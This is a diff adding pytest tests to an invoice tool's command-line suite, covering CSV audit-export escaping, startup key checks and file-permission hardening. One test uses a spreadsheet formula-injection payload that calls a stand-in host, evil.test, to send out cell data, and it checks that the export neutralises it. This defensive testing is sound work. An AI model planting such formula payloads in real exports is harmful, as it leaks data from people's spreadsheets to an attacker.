@@ -6,6 +6,7 @@ import asyncio
 import csv
 import io
 import os
+import stat
 import subprocess
 import sys
 from collections.abc import Iterator
@@ -19,6 +20,8 @@ from tests.conftest import TEST_KEYS
 from tests.fakes import SmtpSink
 from tests.harness import DATA, TODAY, Running, fixed_clock, request_mail
 from tests.worlds import INTENTS_DATA, KINDS, scratch_database
+from vault import audit
+from vault.permissions import database_files, warn_if_wide
 
 CLI_TIMEOUT = 120  # seconds; a command takes a few
 
@@ -96,6 +99,62 @@ async def test_audit_export_lists_what_was_asked(cli: Cli, orm: str) -> None:
     assert all(r["account_id"] == "ACME" for r in rows)
     code, out, _ = await cli.run("audit", "export", "--account", "GLOBEX")
     assert "bot.request.answered" not in out
+
+
+async def test_audit_export_neutralises_a_formula_user_agent(cli: Cli, orm: str) -> None:
+    formula = '=HYPERLINK("http://evil.test/?x="&A1,"click")'
+    await audit.record("vault.link.refused", ip="198.51.100.9", user_agent=formula)
+    await audit.record("vault.link.refused", ip="198.51.100.9", user_agent="\t-1+1")
+    code, out, _ = await cli.run("audit", "export")
+    assert code == 0
+    agents = [r["user_agent"] for r in csv.DictReader(io.StringIO(out))]
+    assert agents == ["'" + formula, "'\t-1+1"]  # shown as text by a spreadsheet
+
+
+async def test_serve_without_secret_keys_exits_2_even_with_a_demo_key_file(cli: Cli) -> None:
+    key_file = Path(cli.env["INVOICEBOT_VAULT_PATH"]).parent / "secret_key"
+    key_file.write_text("d" * 48)  # left by an earlier `serve --demo`
+    cli.env.pop("INVOICEBOT_SECRET_KEYS")
+    code, _, err = await cli.run("serve")
+    assert code == 2
+    assert "INVOICEBOT_SECRET_KEYS is not set" in err and "--demo" in err
+
+
+async def test_what_a_command_creates_is_0600_and_0700(
+    cli: Cli, orm: str, tmp_path: Path
+) -> None:
+    if orm.startswith("sqlite://"):  # a database the command creates, not the test
+        cli.env["INVOICEBOT_DATABASE_URL"] = f"sqlite://{tmp_path / 'created.db'}"
+        assert (await cli.run("migrate"))[0] == 0
+    await cli.load("accounts", "contacts", "invoices")  # renders PDFs into a new vault
+    vault_path = Path(cli.env["INVOICEBOT_VAULT_PATH"])
+    made = [vault_path, *vault_path.rglob("*")]
+    assert any(p.suffix == ".pdf" for p in made)
+    for path in made + database_files(cli.env["INVOICEBOT_DATABASE_URL"]):
+        if path.exists():
+            mode = stat.S_IMODE(path.stat().st_mode)
+            assert mode & 0o077 == 0, f"{path} is {oct(mode)}"
+            assert mode == 0o700 if path.is_dir() else mode in (0o600, 0o400), (path, oct(mode))
+
+
+def test_files_wider_than_private_get_one_warning_naming_them(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    database = tmp_path / "invoicebot.db"
+    database.write_bytes(b"")
+    database.chmod(0o644)
+    vault_path = tmp_path / "vault"
+    (vault_path / "sha256").mkdir(parents=True)
+    vault_path.chmod(0o700)
+    (vault_path / "sha256").chmod(0o755)
+    private = vault_path / "sha256" / "x.pdf"
+    private.write_bytes(b"%PDF")
+    private.chmod(0o400)
+    wide = warn_if_wide(f"sqlite://{database}", vault_path)
+    assert wide == [database, vault_path / "sha256"]
+    (warning,) = [r for r in caplog.records if r.name == "invoicebot.permissions"]
+    assert str(database) in warning.getMessage() and "-rw-r--r--" in warning.getMessage()
+    assert str(private) not in warning.getMessage()
 
 
 async def test_a_broken_row_exits_2_naming_the_line_and_writes_nothing(
